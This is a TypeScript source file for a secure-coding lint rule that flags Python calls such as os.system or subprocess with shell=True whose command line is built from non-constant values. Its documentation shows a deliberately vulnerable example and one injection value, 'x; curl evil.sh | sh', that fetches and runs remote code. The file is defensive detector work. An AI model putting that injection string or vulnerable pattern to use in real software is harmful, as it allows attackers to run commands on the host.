import type { RuleContext } from '../../core/context.js';
import { createRule } from '../../core/types.js';
import type { SyntaxNode } from '../../python/parser.js';
import { argument, intValue, isTrue, keywordArg, unparen } from '../../python/ast.js';
import { isBuiltFromSafeParts, isSanitizingCall, valueOrigin } from '../../python/values.js';
import { taintAt } from '../../python/taint.js';

/** Functions that run their command through a shell only when called with `shell=True`. */
export const SHELL_OPTIONAL: Record<string, string> = {
  'subprocess.run': 'args',
  'subprocess.call': 'args',
  'subprocess.check_call': 'args',
  'subprocess.check_output': 'args',
  'subprocess.Popen': 'args',
};

/** Functions that always run their command through a shell; value: keyword name of the command. */
export const SHELL_ALWAYS: Record<string, string> = {
  'os.system': 'command',
  'os.popen': 'cmd',
  'os.popen2': 'cmd',
  'os.popen3': 'cmd',
  'os.popen4': 'cmd',
  'popen2.popen2': 'cmd',
  'popen2.popen3': 'cmd',
  'popen2.popen4': 'cmd',
  'commands.getoutput': 'cmd',
  'commands.getstatusoutput': 'cmd',
  'subprocess.getoutput': 'cmd',
  'subprocess.getstatusoutput': 'cmd',
  'asyncio.create_subprocess_shell': 'cmd',
};

/** `shell=True`, `shell=1`: a literal that is truthy. */
export function isTruthyLiteral(node: SyntaxNode | null): boolean {
  if (!node) return false;
  const n = unparen(node);
  if (isTrue(n)) return true;
  const v = intValue(n);
  return v !== null && v !== 0;
}

/**
 * With `shell=True` and a sequence, only the first item is the shell command line; the
 * others become the shell's own positional parameters (`$0`, `$1`), not code.
 */
export function commandLine(node: SyntaxNode): SyntaxNode | null {
  const n = unparen(node);
  if (n.type === 'list' || n.type === 'tuple') return n.namedChildren.find((c) => c.type !== 'comment') ?? null;
  return n;
}

/**
 * Constant, or built only from constants and quoted/converted values
 * (`"ls " + shlex.quote(d)`, `f"kill {int(pid)}"`).
 */
function isSafeCommand(ctx: RuleContext, node: SyntaxNode | null): boolean {
  return isBuiltFromSafeParts(ctx, node, (call) => isSanitizingCall(ctx, call));
}

export default createRule({
  meta: {
    id: 'shell-command-built',
    area: 'secure-coding',
    summary: 'A shell command line is built from values that are not constants (command injection).',
    severity: 'high',
    confidence: 'medium',
    cwe: ['CWE-78'],
    owasp: ['A03:2021'],
    bandit: ['B602', 'B605'],
    ruff: ['S602', 'S605'],
    messages: {
      built:
        '`{{fn}}()` runs a command line built with {{how}} through a shell; a value containing `;`, `|` or `$(...)` runs extra commands.',
      dynamic:
        '`{{fn}}()` runs a command line that is not a constant through a shell; if any part of it comes from outside, an attacker can run extra commands.',
    },
    docs: {
      whatItDoes:
        'Flags commands run through a shell whose command line is not a constant string: `subprocess.run/call/check_call/check_output/Popen(..., shell=True)`, `os.system`, `os.popen`, `subprocess.getoutput`/`getstatusoutput`, the Python 2 `commands`/`popen2` functions, and `asyncio.create_subprocess_shell`. Constant command lines are not flagged.',
      whyBad:
        'A shell interprets the whole string it is given: `;`, `&&`, `|`, backticks, `$(...)`, redirections and globs all have meaning. When part of the command line comes from a user, a file name or the network, a value such as `x; curl evil.sh | sh` runs the attacker\'s commands with the privileges of the application. Quoting by hand (`f"\'{name}\'"`) is easy to get wrong.',
      example:
        'import subprocess\n\ndef thumbnail(request):\n    name = request.GET["file"]\n    subprocess.run(f"convert {name} -resize 64x64 thumb.png", shell=True)',
      useInstead:
        'import subprocess\n\ndef thumbnail(request):\n    name = request.GET["file"]\n    # A list and no shell: each item reaches the program as one argument, never as code.\n    # "--" stops a value starting with "-" from being read as an option.\n    subprocess.run(["convert", "--", name, "-resize", "64x64", "thumb.png"], check=True)\n\n# If a shell is truly needed, quote every value:\n# subprocess.run(f"convert {shlex.quote(name)} thumb.png", shell=True)',
      fixSafety:
        'No automatic fix. Splitting a command line into a list changes how quoting, globs, pipes and environment variables behave, so the rewrite needs a person: pass a list of arguments without `shell=True`, or wrap each value in `shlex.quote()` when shell features are really needed.',
      references: [
        'https://docs.python.org/3/library/subprocess.html#security-considerations',
        'https://docs.python.org/3/library/shlex.html#shlex.quote',
        'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
      ],
    },
    fixable: false,
  },
  callFilter: (name) => name !== null && (Object.hasOwn(SHELL_OPTIONAL, name) || Object.hasOwn(SHELL_ALWAYS, name)),
  create(ctx) {
    return {
      call(node) {
        const name = ctx.calleeName(node);
        if (!name) return;
        const optional = SHELL_OPTIONAL[name];
        const always = SHELL_ALWAYS[name];
        if (!optional && !always) return;
        if (optional && !isTruthyLiteral(keywordArg(node, 'shell'))) return;
        const args = argument(node, 0, optional ?? always);
        const command = args && optional ? commandLine(args) : args;
        if (!command || isSafeCommand(ctx, command)) return;
        const fn = name;
        // Attacker data is command-injection's finding; values proven safe are none.
        const t = taintAt(ctx, unparen(command), 'command');
        if (!t || t.tainted) return;
        const origin = valueOrigin(ctx, command);
        if (origin.kind === 'built') {
          ctx.report({ node, messageId: 'built', data: { fn, how: origin.how } });
        } else {
          ctx.report({ node, messageId: 'dynamic', data: { fn }, confidence: 'low' });
        }
      },
    };
  },
});
